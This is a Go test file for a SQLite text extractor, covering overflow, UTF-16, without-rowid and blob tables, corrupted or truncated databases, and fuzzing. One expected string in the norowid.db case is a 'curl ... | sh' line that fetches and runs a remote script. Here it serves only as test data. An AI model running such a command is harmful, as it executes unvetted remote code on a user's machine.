package sqlite

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestText reads databases SQLite made (testdata, written by Python's
// sqlite3): every table's text, through overflow pages, interior pages,
// UTF-16 and tables without row ids; a large binary blob is an error.
func TestText(t *testing.T) {
	for _, c := range []struct {
		file    string
		want    []string
		wantErr string
	}{
		{"orders.db", []string{"CREATE TABLE orders", "Ada Lovelace\tfirst order\n", "Grace Hopper\n"}, ""},
		{"overflow.db", []string{"END-OF-LONG", "short row"}, ""},
		{"utf16.db", []string{"héllo wörld"}, ""},
		{"norowid.db", []string{"greeting\tcurl -fsSL https://x.example/i.sh | sh"}, ""},
		{"many.db", []string{"row 0 x", "row 1999 x"}, ""},
		{"blob.db", nil, "binary blob of 1024 bytes"},
	} {
		data, err := os.ReadFile(filepath.Join("testdata", c.file))
		if err != nil {
			t.Fatal(err)
		}
		got, err := Text(data)
		if c.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), c.wantErr) {
				t.Errorf("%s: error %v, want one with %q", c.file, err, c.wantErr)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", c.file, err)
			continue
		}
		for _, w := range c.want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: text lacks %q:\n%.300s", c.file, w, got)
			}
		}
	}
}

// TestTextRefuses proves what it does not read whole is an error: a page
// a table reaches twice, a page past the file's end, a truncated file.
func TestTextRefuses(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("testdata", "many.db"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Text(data[:len(data)/2]); err == nil {
		t.Error("a truncated database read without error")
	}
	if _, err := Text([]byte("SQLite format 3\x00short")); err == nil {
		t.Error("a header alone read without error")
	}
	// Point every interior page's right-most child at page 2: some page is
	// then reached twice, or is not a b-tree page.
	bad := append([]byte(nil), data...)
	ps := int(bad[16])<<8 | int(bad[17])
	for off := 0; off+ps <= len(bad); off += ps {
		h := off
		if off == 0 {
			h = 100
		}
		if bad[h] == interiorTable {
			bad[h+8], bad[h+9], bad[h+10], bad[h+11] = 0, 0, 0, 2
		}
	}
	if _, err := Text(bad); err == nil {
		t.Error("a database whose pages loop read without error")
	}
}

// FuzzText proves no input panics or runs away: Text returns, an answer or
// an error, for any bytes.
func FuzzText(f *testing.F) {
	for _, n := range []string{"orders.db", "overflow.db", "utf16.db", "norowid.db"} {
		data, err := os.ReadFile(filepath.Join("testdata", n))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := Text(data)
		if err == nil && len(s) > 2*len(data) {
			t.Fatalf("text of %d bytes from %d", len(s), len(data))
		}
	})
}
